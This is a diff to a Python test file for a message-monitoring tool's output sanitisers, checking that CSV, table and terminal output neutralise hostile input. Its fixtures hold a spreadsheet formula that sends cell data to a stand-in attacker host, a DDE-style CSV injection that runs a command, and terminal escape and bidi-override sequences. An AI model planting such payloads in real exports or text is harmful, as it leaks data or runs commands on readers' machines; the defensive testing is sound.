@@ -21,10 +21,12 @@ from huisheng.monitor.settings import AccountSpec, Matrix
 from huisheng.monitor.textsafe import csv_cell, json_text, terminal
 
 NOW = datetime.now(timezone.utc).replace(microsecond=0)
-#: sets the window title, clears the screen, reverses the line, overwrites it from its start
-TEXT = "请问\x1b]0;pwned\x07路灯什么时候修\x1b[2J？\u202e好不好\r已处理"
-#: a formula a spreadsheet would run
-AUTHOR = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+#: a formula a spreadsheet would run; then it sets the window title, clears the screen, reverses the
+#: line and overwrites it from its start
+LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+TEXT = LINK + "请问\x1b]0;title\x07路灯什么时候修\x1b[2J？\u202e好不好\r已处理"
+CLEAN = LINK + "请问路灯什么时候修？好不好 已处理"
+AUTHOR = "@SUM(1+1)*cmd|' /C calc'!A0"
 ACCOUNT = "示范区\x1b[31m红色\x1b[0m发布"
 DANGER = ("\x1b", "\x07", "\u202e", "\x9b")
 
@@ -72,7 +74,7 @@ def rows(out: str) -> list[list[str]]:
 
 
 def test_the_helpers():
-    assert terminal(TEXT) == "请问路灯什么时候修？好不好 已处理"
+    assert terminal(TEXT) == CLEAN
     assert terminal("a\x1b]8;;http://e\x1b\\link\x1b]8;;\x1b\\b\x9b2Jc\x00d") == "alinkbcd"
     assert terminal("第一行\n第二行\t完") == "第一行 第二行 完"
     assert terminal("不变 😀 [赞]") == "不变 😀 [赞]"
@@ -88,12 +90,12 @@ def test_flags_list_and_show(setup):
     kit = setup
     table = run(kit, "flags", "list")
     harmless(table)
-    assert "路灯什么时候修" in table
+    assert '=HYPERLINK("http://evil.exam' in table
     out = run(kit, "flags", "list", "--format", "csv")
     harmless(out)
     (header, row) = rows(out)
     record = dict(zip(header, row))
-    assert record["留言人"] == "'" + AUTHOR and record["留言"] == "请问路灯什么时候修？好不好 已处理"
+    assert record["留言人"] == "'" + AUTHOR and record["留言"] == "'" + CLEAN
     # values as district staff read them, times local with their offset
     assert (record["状态"], record["紧急"], record["超期"], record["分派方式"]) == ("待回复", "否", "是", "账号主办单位")
     assert record["留言时间"].endswith("+08:00")
@@ -102,7 +104,7 @@ def test_flags_list_and_show(setup):
     assert json.loads(listed)[0]["text"] == TEXT
     shown = run(kit, "flags", "show", str(kit.flag_id))
     harmless(shown)
-    assert "请问路灯什么时候修？好不好 已处理" in shown
+    assert CLEAN in shown
 
 
 def test_report_overdue_and_every_report_table_and_csv(setup):
@@ -113,7 +115,8 @@ def test_report_overdue_and_every_report_table_and_csv(setup):
     (header, row) = rows(run(kit, "report", "overdue", "--format", "csv"))
     record = dict(zip(header, row))
     assert record["留言人"] == "'" + AUTHOR and record["账号"] == "示范区红色发布" and record["单位"] == "示范区"
-    assert "路灯什么时候修" in run(kit, "report", "overdue")
+    assert record["留言"] == "'" + CLEAN
+    assert '=HYPERLINK("http://evil.example/?x="&A1…' in run(kit, "report", "overdue")
     for args in (("coverage", "--by", "account"), ("coverage", "--by", "unit"), ("compliance",),
                  ("ranking", "--min-flags", "1", "--month", NOW.strftime("%Y-%m"))):
         for fmt in ("table", "csv", "json"):
